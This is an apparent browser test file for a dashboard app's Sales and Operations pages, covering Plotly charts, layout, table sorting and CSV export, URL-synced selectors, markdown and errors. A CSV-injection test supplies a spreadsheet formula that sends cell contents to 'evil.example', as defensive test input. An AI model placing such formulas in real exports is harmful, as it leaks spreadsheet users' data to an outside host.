// The "Sales Overview" and "Operations & Quality" dashboards of the fixture.
import { after, before, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { BASE, OPS, SALES, currentQuery, launch, open, plotData, plotLayout, settle, shot } from './harness.mjs';

let browser;
before(async () => {
  browser = await launch();
});
after(async () => {
  await browser?.close();
});

async function sales(query = '') {
  const page = await open(browser.context, `${BASE}${SALES}${query}`);
  await settle(page);
  return page;
}

describe('charts', () => {
  it('renders one plotly trace per (trace, cohort) in the chart trace order', async () => {
    const page = await sales();
    await shot(page, 'dashboard-sales');
    const data = await plotData(page, 'Revenue');
    assert.equal(data.length, 4);
    assert.deepEqual(data.map((t) => t.name), ['north', 'south', 'north', 'south']);
    assert.deepEqual(data.map((t) => t.type), ['bar', 'bar', 'scatter', 'scatter']);
    // column(month_label) resolved from columns.*, query() props merged from props.*
    assert.deepEqual(data[0].x, ['Jan', 'Feb', 'Mar']);
    assert.deepEqual(data[0].y, [30, 12.5, 41]);
    assert.deepEqual(data[0].marker.color, ['green', 'grey', 'green']);
    assert.deepEqual(data[1].y, [18, 22, 9.5]);
    assert.deepEqual(data[2].y, [3, 2, 5]);
    assert.equal(data[2].yaxis, 'y2');
    const layout = await plotLayout(page, 'Revenue');
    assert.equal(layout.title.text, 'Revenue and units');
    assert.equal(layout.barmode, 'group');
    assert.deepEqual(page.errors, []);
    await page.close();
  });

  it('resolves column(x)[i] with negative indexes for indicators', async () => {
    const page = await sales();
    const data = await plotData(page, 'Units KPI');
    assert.equal(data.length, 1);
    assert.equal(data[0].type, 'indicator');
    assert.equal(data[0].value, 10);
    assert.equal(data[0].delta.reference, 7);
    assert.equal(data[0].name, 'units_kpi');
    assert.match(await page.textContent('[data-chart="Units KPI"]'), /10/);
    await page.close();
  });

  it('uses exact matches for a single selector default (no substring match)', async () => {
    const page = await sales();
    const data = await plotData(page, 'Months');
    assert.deepEqual(data.map((t) => t.name), ['2022 Sep']);
    assert.equal(data[0].x.length, 3);
    await page.close();
  });

  it('replaces list elements with props.z.N and slices columns', async () => {
    const page = await open(browser.context, `${BASE}${OPS}`);
    await settle(page);
    await shot(page, 'dashboard-ops');
    const heat = await plotData(page, 'Heatmap');
    assert.equal(heat.length, 1);
    assert.deepEqual(heat[0].z, [[1, 2, 3], [4, 5, 6], [7, 8, 9]]);
    assert.equal(heat[0].colorscale, 'Viridis');
    // xsmall row: 128 px; compact row: natural height (layout.height of its chart)
    const heights = await page.$$eval('.row', (rs) => rs.map((r) => [r.dataset.height, Math.round(r.getBoundingClientRect().height)]));
    assert.deepEqual(heights.find(([h]) => h === 'xsmall'), ['xsmall', 128]);
    assert.equal((await plotLayout(page, 'Compact Units')).height, 300);
    const sliced = await plotData(page, 'Sliced');
    assert.deepEqual(sliced[0].x, [1, 2, 3, 4, 5]);
    assert.deepEqual(sliced[0].y, [1.5, 4, 9.5, 16]);
    // a table without column_defs shows every key with derived headers
    const headers = await page.$$eval('[data-table="Sliced Table"] thead th[data-key]', (ths) => ths.map((t) => t.textContent.trim()));
    assert.deepEqual(headers, ['x', 'y']);
    await page.close();
  });

  it('shows the plotly mode bar with a PNG download button', async () => {
    const page = await sales();
    await page.hover('[data-chart="Revenue"] .plot');
    const btn = await page.waitForSelector('[data-chart="Revenue"] .modebar-btn[data-title="Download plot as a png"]');
    assert.ok(btn);
    await page.close();
  });
});

describe('layout', () => {
  it('gives rows their pixel heights and items widths relative to `width`', async () => {
    const page = await sales();
    const rows = await page.$$eval('.row', (rs) =>
      rs.map((r) => ({ height: r.dataset.height, px: r.getBoundingClientRect().height, items: [...r.children].map((c) => c.getBoundingClientRect().width) })),
    );
    assert.equal(rows[1].height, 'small');
    assert.equal(Math.round(rows[1].px), 256);
    assert.equal(rows[2].height, 'medium');
    assert.equal(Math.round(rows[2].px), 396);
    // row 3: chart width 2, table width 1 (gap 16px)
    const [chartW, tableW] = rows[2].items;
    assert.ok(Math.abs(chartW - 2 * tableW) < 20, `${chartW} vs ${tableW}`);
    const layout = await plotLayout(page, 'Revenue');
    assert.ok(layout.height > 340 && layout.height <= 396, `height ${layout.height}`);
    assert.ok(Math.abs(layout.width - chartW) < 30, `width ${layout.width} vs ${chartW}`);
    await page.close();
  });

  it('resizes charts with the page and switches to one column under 1024 px', async () => {
    const page = await sales();
    const wide = (await plotLayout(page, 'Revenue')).width;
    await page.setViewportSize({ width: 1200, height: 1000 });
    await page.waitForFunction((w) => {
      const el = document.querySelector('[data-chart="Revenue"] .js-plotly-plot');
      return el && el.layout.width < w - 100;
    }, wide);
    await page.setViewportSize({ width: 800, height: 1000 });
    await page.waitForTimeout(400);
    const boxes = await page.$$eval('[data-chart="Revenue"], [data-table="Orders Table"]', (els) =>
      els.map((e) => e.getBoundingClientRect().toJSON()),
    );
    assert.equal(Math.round(boxes[0].x), Math.round(boxes[1].x), 'stacked in one column');
    assert.ok(boxes[1].y >= boxes[0].y + boxes[0].height, 'table below chart');
    assert.equal(Math.round(boxes[0].height), 396);
    const layout = await plotLayout(page, 'Revenue');
    assert.ok(layout.width > 700, `narrow chart takes the full width (${layout.width})`);
    await shot(page, 'dashboard-narrow');
    await page.close();
  });
});

describe('table', () => {
  const T = '[data-table="Orders Table"]';
  const cells = (page, col) =>
    page.$$eval(`${T} tbody tr`, (trs, c) => trs.map((tr) => tr.children[c]?.textContent ?? ''), col);

  it('shows rows per column_defs, paginates, sorts and filters', async () => {
    const page = await sales();
    const headers = await page.$$eval(`${T} thead th[data-key]`, (ths) => ths.map((t) => t.textContent.trim()));
    assert.deepEqual(headers, ['Order', 'customer name', 'amount', 'color']);
    assert.equal((await cells(page, 1)).length, 10);
    assert.match(await page.textContent(`${T} .page-info`), /1–10 of 14/);
    // a key with several dots has values
    assert.deepEqual((await cells(page, 4)).slice(0, 3), ['grey', 'green', 'green']);

    await page.click(`${T} th[data-key="columns.amount"] .sort-button`);
    assert.deepEqual((await cells(page, 3)).slice(0, 3), ['5', '7', '12.5']);
    await page.click(`${T} th[data-key="columns.amount"] .sort-button`);
    assert.deepEqual((await cells(page, 3)).slice(0, 3), ['150', '99', '88']);
    await shot(page, 'table-sorted');

    await page.click(`${T} [aria-label="Next page"]`);
    assert.equal((await cells(page, 1)).length, 4);
    assert.match(await page.textContent(`${T} .page-info`), /11–14 of 14/);
    // empty values sort last
    assert.equal((await cells(page, 3)).at(-1), '');

    await page.fill(`${T} .table-search`, 'grace');
    assert.deepEqual(await cells(page, 2), ['Grace']);
    await page.fill(`${T} .table-search`, '');
    await page.click(`${T} [data-action="filters"]`);
    await page.fill(`${T} .column-filter[data-key="props.marker.color"]`, 'green');
    assert.equal((await cells(page, 1)).length, 6);
    await page.close();
  });

  it('downloads CSV', async () => {
    const page = await sales();
    const [download] = await Promise.all([page.waitForEvent('download'), page.click(`${T} [data-action="csv"]`)]);
    const text = readFileSync(await download.path(), 'utf8');
    const lines = text.trim().split(/\r\n/);
    assert.equal(lines[0], 'Order,customer name,amount,color');
    assert.equal(lines.length, 15);
    assert.equal(lines[1], '101,Ada,12.5,grey');
    assert.equal(download.suggestedFilename(), 'Orders Table - north.csv');
    await page.close();
  });

  it('downloads CSV with spreadsheet formulas defused (CSV injection)', async () => {
    const hostile = ['=HYPERLINK("http://evil.example/?"&A1,"open")', '+SUM(A1)', '-2+3', '@A1', '\tx', '-3.5', '+42', 'Ada'];
    const page = await browser.context.newPage();
    await page.route('**/data/orders/data.json', async (route) => {
      const response = await route.fetch();
      const data = await response.json();
      data.north['columns.customer_name'].splice(0, hostile.length, ...hostile);
      await route.fulfill({ response, json: data });
    });
    await page.goto(`${BASE}${SALES}`);
    await settle(page);
    const [download] = await Promise.all([page.waitForEvent('download'), page.click(`${T} [data-action="csv"]`)]);
    const lines = readFileSync(await download.path(), 'utf8').trim().split(/\r\n/);
    const names = lines.slice(1, hostile.length + 1).map((l) => l.slice(l.indexOf(',') + 1, l.lastIndexOf(',', l.lastIndexOf(',') - 1)));
    assert.deepEqual(names, [
      `"'=HYPERLINK(""http://evil.example/?""&A1,""open"")"`,
      "'+SUM(A1)",
      "'-2+3",
      "'@A1",
      "'\tx",
      '-3.5',
      '+42',
      'Ada',
    ]);
    await page.close();
  });

  it('switches cohort with its own selector and records it in the URL', async () => {
    const page = await sales();
    await page.click(`${T} .picker-button`);
    await page.click('.picker-panel [data-value="south"]');
    await page.waitForFunction(() => document.querySelectorAll('[data-table="Orders Table"] tbody tr').length === 2);
    assert.match(currentQuery(page), /Orders%20Table%20Selector=south/);
    assert.deepEqual(await cells(page, 2), ['Hedy', 'Claude']);
    // back to the default removes the parameter
    await page.click(`${T} .picker-button`);
    await page.click('.picker-panel [data-value="north"]');
    await page.waitForFunction(() => !location.search.includes('Orders'));
    await page.close();
  });
});

describe('selectors', () => {
  it('a selector item drives a chart sharing the selector through the URL', async () => {
    const page = await sales();
    // on first display the selector item stores its default
    assert.equal(decodeURIComponent(currentQuery(page)), 'Region=north,south');
    await page.click('[data-selector-item="Region"] .picker-button');
    await page.click('.picker-panel [data-value="north"]');
    await page.waitForFunction(() => document.querySelector('[data-chart="Revenue"] .js-plotly-plot').data.length === 2);
    assert.equal(currentQuery(page), 'Region=south');
    assert.deepEqual((await plotData(page, 'Revenue')).map((t) => t.name), ['south', 'south']);
    await page.click('.picker-panel .link-button:text("Clear")');
    await page.waitForFunction(() => document.querySelector('[data-chart="Revenue"] .js-plotly-plot').data.length === 0);
    assert.equal(currentQuery(page), 'Region=NoCohorts');
    await shot(page, 'selector-open');
    await page.keyboard.press('Escape');
    await page.close();
  });

  it('reads the selection from a shared link (exact names)', async () => {
    const page = await sales('?Region=north');
    const data = await plotData(page, 'Revenue');
    assert.deepEqual(data.map((t) => t.name), ['north', 'north']);
    assert.match(await page.textContent('[data-selector-item="Region"] .picker-value'), /^north$/);
    await page.close();
  });

  it('a chart with its own single selector shows a dropdown on hover', async () => {
    const page = await sales();
    await page.hover('[data-chart="Months"] .plot');
    await page.click('[data-chart="Months"] .picker-button');
    await page.click('.picker-panel [data-value="Sep"]');
    await page.waitForFunction(() => document.querySelector('[data-chart="Months"] .js-plotly-plot').data[0]?.name === 'Sep');
    const data = await plotData(page, 'Months');
    assert.equal(data.length, 1);
    assert.deepEqual(data[0].x, [1, 2]);
    assert.match(currentQuery(page), /Month%20Picker=Sep/);
    // charts following a shared selector show no dropdown of their own
    assert.equal(await page.$('[data-chart="Revenue"] .picker'), null);
    await page.close();
  });
});

describe('markdown', () => {
  it('renders markdown and never runs embedded scripts', async () => {
    const page = await sales();
    await page.waitForTimeout(300);
    assert.equal(await page.evaluate(() => window.__xss), undefined);
    const md = page.locator('.item-markdown').first();
    assert.equal(await md.locator('h1').textContent(), 'Sales overview');
    assert.equal(await md.locator('strong').textContent(), 'region');
    assert.equal(await md.locator('script').count(), 0);
    assert.equal(await md.locator('[onerror]').count(), 0);
    const hrefs = await md.locator('a').evaluateAll((as) => as.map((a) => a.getAttribute('href')));
    assert.ok(hrefs.every((h) => !h || !h.startsWith('javascript:')), JSON.stringify(hrefs));
    await page.close();
  });
});

describe('errors', () => {
  it('a failed trace shows its error while the others render', async () => {
    const page = await sales();
    const broken = await page.textContent('[data-chart="Broken Chart"] .state-error');
    assert.match(broken, /broken_trace\/query\.sql:3: no such column: amout/);
    const missing = await page.textContent('[data-chart="Missing Data"] .state-error');
    assert.match(missing, /missing_trace.*not found/);
    // a chart mixing a good and a failed trace renders the good one plus a warning
    const partial = await plotData(page, 'Partial');
    assert.equal(partial.length, 2);
    assert.match(await page.textContent('[data-chart="Partial"] .item-warning'), /no such column: amout/);
    assert.equal(await page.$('.state-loading'), null);
    assert.equal((await plotData(page, 'Revenue')).length, 4);
    await page.close();
  });
});
